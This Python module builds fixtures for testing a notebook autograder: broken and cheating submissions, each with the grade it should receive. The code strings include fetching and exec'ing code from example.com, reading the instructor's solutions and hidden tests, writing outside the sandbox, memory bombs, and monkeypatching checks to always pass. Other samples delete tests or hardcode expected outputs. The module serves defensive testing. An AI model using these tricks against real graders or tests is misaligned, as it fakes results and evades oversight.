"""The broken and cheating submissions of the demo class, each with the grade it must get.

Every case starts from the correct submission and changes one thing. Cheats are paired with a
wrong or blank answer to the first exercise (the *target*), so that a cheat that worked would
show as points it should not have: the tests that name the target's functions must fail, and
the tests that use them indirectly may (see :meth:`Anatomy.affected`).
"""

from __future__ import annotations

import base64
import copy
import json
import pickle
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from ..engine.results import FLAGGED, INVALID, MISSING, OK, PARTIAL
from . import Anatomy, new_cell, nbgrader_meta


@dataclass(frozen=True)
class Sample:
    """One sample submission and the grade it must get: its status, the tests that must fail
    and those that may (a broken function used by a test that happens not to expose it)."""

    student_id: str
    assignment: str
    notebook: str                     # the notebook it stands for (stem)
    filename: str                     # the file name it is saved under
    text: str
    status: str
    must_fail: frozenset[str]
    may_fail: frozenset[str]
    score_range: tuple[float, float]  # (every allowed test failed, only the required ones)
    description: str
    must_not_exist: tuple[str, ...] = field(default=())   # files the submission tried to write
    diagnosis: tuple[str, str] | None = None              # (test grade_id, expected diagnosis word)
    written: frozenset[str] = field(default=frozenset())  # written answers: pending a TA, not in score_range


def sample(anatomy: Anatomy, student_id: str, text: str, status: str, must_fail: set[str],
           may_fail: set[str], description: str, **extra) -> Sample:
    """A sample of ``anatomy``'s notebook with its expected outcome."""
    may_fail = set(may_fail) - set(must_fail)
    high = anatomy.max_score - anatomy.points(set(must_fail))
    low = high - anatomy.points(may_fail)
    extra.setdefault("filename", anatomy.name)
    extra.setdefault("written", frozenset(grade_id for grade_id, _ in anatomy.written))
    return Sample(student_id, anatomy.assignment, Path(anatomy.name).stem, extra.pop("filename"), text,
                  status, frozenset(must_fail), frozenset(may_fail), (low, high), description, **extra)


def _write(nb: nbformat.NotebookNode) -> str:
    return nbformat.writes(nb)


def _with_answer(anatomy: Anatomy, source: str) -> nbformat.NotebookNode:
    nb = copy.deepcopy(anatomy.correct)
    nb.cells[anatomy.index(nb, anatomy.target_answer)].source = source
    return nb


def _blank_answer(anatomy: Anatomy) -> nbformat.NotebookNode:
    released = anatomy.release.cells[anatomy.index(anatomy.release, anatomy.target_answer)].source
    return _with_answer(anatomy, released)


def _garbage_answer(anatomy: Anatomy) -> str:
    names = anatomy.answer_defs[anatomy.target_answer]
    return "\n\n".join(f"def {name}(*args, **kwargs):\n    return 0.0" for name in names)


def _insert(nb: nbformat.NotebookNode, position: int, source: str) -> nbformat.NotebookNode:
    nb.cells.insert(position, new_cell(source))
    return nb


def _after_imports(nb: nbformat.NotebookNode) -> int:
    """Just after the first locked code cell (where the imports are)."""
    return next((i + 1 for i, c in enumerate(nb.cells)
                 if c.cell_type == "code" and nbgrader_meta(c).get("locked")), 0)


_RECORDER = r"""
import json, pickle, sys, types
import matplotlib
matplotlib.use("Agg")
job = json.load(sys.stdin)
result_stream, sys.stdout = sys.stdout, sys.stderr   # the notebook's prints must not mix in
namespace, calls = {"__name__": "__main__"}, {name: [] for name in job["names"]}
def plain(value):
    if callable(value) and not isinstance(value, type):
        return "<function %s>" % getattr(value, "__name__", "?")
    if isinstance(value, (list, tuple)):
        return type(value)(plain(v) for v in value)
    if isinstance(value, dict):
        return {k: plain(v) for k, v in value.items()}
    return value
def recorder(name, function):
    def wrapper(*args, **kwargs):
        value = function(*args, **kwargs)
        calls[name].append((plain(args), plain(kwargs), value))
        return value
    return wrapper
for source in job["cells"]:
    exec(compile(source, "<cell>", "exec"), namespace)
for name in job["names"]:
    namespace[name] = recorder(name, namespace[name])
exec(compile(job["test"], "<test>", "exec"), namespace)
result_stream.buffer.write(pickle.dumps(calls))
"""

_HARDCODED = '''import base64
import pickle

import numpy as np

# The visible test's inputs and the outputs it expects, copied from a classmate's run.
_KNOWN = pickle.loads(base64.b64decode(
    "{blob}"))


def _same(a, b):
    if isinstance(a, str) and a.startswith("<function"):
        return callable(b)
    if isinstance(a, np.ndarray) or isinstance(b, np.ndarray):
        return np.shape(a) == np.shape(b) and bool(np.array_equal(a, b))
    if isinstance(a, (list, tuple)) and isinstance(b, (list, tuple)):
        return len(a) == len(b) and all(_same(x, y) for x, y in zip(a, b))
    if isinstance(a, dict) and isinstance(b, dict):
        return a.keys() == b.keys() and all(_same(a[k], b[k]) for k in a)
    return type(a) is type(b) and a == b


def _answer(name, args, kwargs):
    for known_args, known_kwargs, value in _KNOWN[name]:
        if _same(known_args, args) and _same(known_kwargs, kwargs):
            return value
    return _KNOWN[name][0][2]   # never seen these inputs: answer what the test wanted last time
'''


def visible_calls(anatomy: Anatomy) -> dict[str, list]:
    """What the target test's visible part passes to the target answer's functions, and what the
    correct functions return, from a run of the correct notebook up to that test."""
    nb = anatomy.correct
    stop = anatomy.index(nb, anatomy.target_test)
    cells = [c.source for c in nb.cells[:stop] if c.cell_type == "code"]
    job = {"cells": cells, "test": nb.cells[stop].source,
           "names": anatomy.answer_defs[anatomy.target_answer]}
    proc = subprocess.run([sys.executable, "-c", _RECORDER], input=json.dumps(job).encode(),
                          capture_output=True, timeout=120)
    if proc.returncode != 0:
        raise RuntimeError("could not run the visible test to copy its values:\n"
                           + proc.stderr.decode(errors="replace")[-2000:])
    return pickle.loads(proc.stdout)


def _hardcoded_answer(anatomy: Anatomy) -> str:
    calls = visible_calls(anatomy)
    blob = base64.b64encode(pickle.dumps(calls)).decode()
    lines = [blob[i:i + 88] for i in range(0, len(blob), 88)]
    source = _HARDCODED.replace('"{blob}"', "\n    ".join(f'"{line}"' for line in lines))
    for name, seen in calls.items():
        body = (f"    return _answer({name!r}, args, kwargs)" if seen
                else f'    raise NotImplementedError("{name}: the visible test never calls it")')
        source += f"\n\ndef {name}(*args, **kwargs):\n{body}\n"
    return source


def bad_submissions(anatomy: Anatomy, *, source_path: Path, escape_dir: Path,
                    isolated: bool) -> list[Sample]:
    """Every broken and cheating case, built on ``anatomy``'s notebook.

    ``source_path`` is the instructor notebook the grader uses (what a cheat tries to read);
    ``escape_dir`` a folder outside the submission where a cheat tries to write; ``isolated``
    says whether student code runs in the bubblewrap sandbox (without it, reading the
    solutions and writing outside cannot be stopped, and the expectations say so).
    """
    a = anatomy
    stem = Path(a.name).stem
    every = {t for t, _ in a.tests}
    direct = a.direct({a.target_answer})
    # "target": tests naming the target's functions must fail; tests using them indirectly may
    target = (direct, a.affected({a.target_answer}))
    after_first_test = a.index(a.correct, a.target_test) + 1
    stopped = {t for t in every if a.index(a.correct, t) >= after_first_test}
    samples: list[Sample] = []

    def add(case: str, status: str, fails: tuple[set[str], set[str]], description: str, nb=None, *,
            text: str | None = None, **extra) -> None:
        samples.append(sample(a, f"case-{case}", text if text is not None else _write(nb), status,
                              fails[0], fails[1], description, **extra))

    none: tuple[set[str], set[str]] = (set(), set())
    everything: tuple[set[str], set[str]] = (every, set())
    correct = lambda: copy.deepcopy(a.correct)  # noqa: E731

    text = _write(a.correct)
    add("malformed-json", INVALID, everything, "the file was cut off halfway: not valid JSON",
        text=text[: len(text) // 2])
    add("wrong-filename", MISSING, everything, f"submitted as {stem}-Copy1.ipynb instead of {a.name}",
        text=text, filename=f"{stem}-Copy1.ipynb")

    nb = _blank_answer(a)
    del nb.cells[a.index(nb, a.target_test)]
    add("test-deleted", FLAGGED, target, f"left {a.target_answer} blank and deleted its test cell", nb)

    nb = _blank_answer(a)
    nb.cells[a.index(nb, a.target_test)].source = '"""Checks pass."""\nprint("ok")'
    add("test-edited", FLAGGED, target, f"left {a.target_answer} blank and replaced its test by print('ok')", nb)

    nb = _blank_answer(a)
    meta = nbgrader_meta(nb.cells[a.index(nb, a.target_test)])
    meta["points"], meta["grade"] = 100, False
    add("metadata-edited", FLAGGED, target,
        f"left {a.target_answer} blank, set its test's points to 100 and its grade flag to false", nb)

    nb = _blank_answer(a)
    position = a.index(nb, a.target_answer)
    twin = new_cell(a.correct.cells[position].source)
    twin.metadata = copy.deepcopy(nb.cells[position].metadata)
    nb.cells.insert(position + 1, twin)
    add("duplicated-cells", FLAGGED, target,
        f"duplicated the answer cell {a.target_answer}: the first copy (blank) counts", nb)

    add("kernel-killed", PARTIAL, (stopped, set()), "os._exit(1) after the first test: the rest is not run",
        _insert(correct(), after_first_test, "import os\n\nos._exit(1)"))
    add("infinite-loop", OK, none, "an infinite loop after the first test (interrupted at the timeout), "
        "else correct", _insert(correct(), after_first_test, "while True:\n    pass"))

    add("memory-bomb", OK, none, "tries to allocate 64 GiB (stopped by the memory limit), else correct",
        _insert(correct(), after_first_test, "hog = [bytearray(2**30) for _ in range(64)]"))
    add("output-flood", OK, none, "prints 200,000 lines, else correct",
        _insert(correct(), after_first_test, "for i in range(200_000):\n    print(i)"))
    add("sys-exit", OK, none, "calls sys.exit() after the first test, else correct",
        _insert(correct(), after_first_test, 'import sys\n\nsys.exit("I am done here")'))

    source = a.correct.cells[a.index(a.correct, a.target_answer)].source
    add("syntax-error", OK, target, f"a syntax error in {a.target_answer}",
        _with_answer(a, source + "\nprint('unfinished'"))

    names = a.answer_defs[a.target_answer]
    fetch = ("import urllib.request\n\ntry:\n    ANSWER_KEY = urllib.request.urlopen("
             '"http://example.com/backprop-answers.py", timeout=3).read().decode()\n'
             "except OSError as err:\n    ANSWER_KEY = None\n    print('no network:', err)\n\n"
             "if ANSWER_KEY:\n    exec(ANSWER_KEY)\n")
    fetch += "".join(f"else:\n    def {n}(*args, **kwargs):\n        raise RuntimeError('no answer key')\n"
                     if i == 0 else f"    def {n}(*args, **kwargs):\n        raise RuntimeError('no answer key')\n"
                     for i, n in enumerate(names))
    add("network", OK, target, f"{a.target_answer} downloads its answers from the internet",
        _with_answer(a, fetch))

    steal = (
        "import json\nimport pathlib\n\nSTOLEN = None\n"
        f"for guess in [{str(source_path)!r}, '../../solutions/{a.assignment}/{a.name}',\n"
        f"              '../solutions/{a.assignment}/{a.name}']:\n"
        "    try:\n        STOLEN = json.loads(pathlib.Path(guess).read_text())\n        break\n"
        "    except OSError:\n        pass\n\n"
        "if STOLEN:\n    for cell in STOLEN['cells']:\n"
        "        text = ''.join(cell['source'])\n"
        f"        if cell['metadata'].get('nbgrader', {{}}).get('grade_id') == {a.target_answer!r}:\n"
        "            exec(text)\n"
        "        if 'BEGIN HIDDEN TESTS' in text:\n            print(text)\n"
        "else:\n    print('could not read the solutions')\n")
    add("read-solutions", OK, target if isolated else none,
        f"{a.target_answer} reads the instructor's notebook (solutions and hidden tests) from disk"
        + ("" if isolated else " — NOT stopped: no bubblewrap sandbox here"), _with_answer(a, steal))

    targets = (str(escape_dir / "escaped-absolute.txt"), "../escaped-relative.txt")
    write = ("import pathlib\n\nfor target in " + repr(list(targets)) + ":\n    try:\n"
             "        pathlib.Path(target).write_text('written by a student')\n"
             "        print('wrote', target)\n    except OSError as err:\n        print('blocked:', err)")
    add("write-outside", OK, none, "writes files outside its folder, else correct",
        _insert(correct(), after_first_test, write), must_not_exist=(targets[0],) if isolated else ())

    patches = {
        "patch-numpy": ("import numpy as np\n\nnp.allclose = lambda *args, **kwargs: True\n"
                        "np.testing.assert_allclose = lambda *args, **kwargs: None\n"
                        "np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)",
                        "patches numpy's comparisons to always agree"),
        "patch-gradcheck": ("import utils.gradcheck as checker\n\nfor name in dir(checker):\n"
                            "    if name.startswith(('assert_', 'check_', 'compare')):\n"
                            "        setattr(checker, name, lambda *args, **kwargs: None)",
                            "patches utils.gradcheck so every check passes"),
    }
    helpers = [h for h in a.helpers if h.startswith(("assert_", "check_", "compare"))]
    if helpers:
        patches["redefine-helpers"] = (
            "\n\n".join(f"def {h}(*args, **kwargs):\n    return None" for h in helpers),
            "redefines the test helpers (" + ", ".join(helpers) + ") to do nothing")
    for case, (source, description) in patches.items():
        nb = _with_answer(a, _garbage_answer(a))
        add(case, FLAGGED, target, f"{description}; {a.target_answer} returns 0.0",
            _insert(nb, _after_imports(nb), source))

    add("hardcoded", OK, target, f"{a.target_answer} returns the visible test's expected values",
        _with_answer(a, _hardcoded_answer(a)))
    return samples
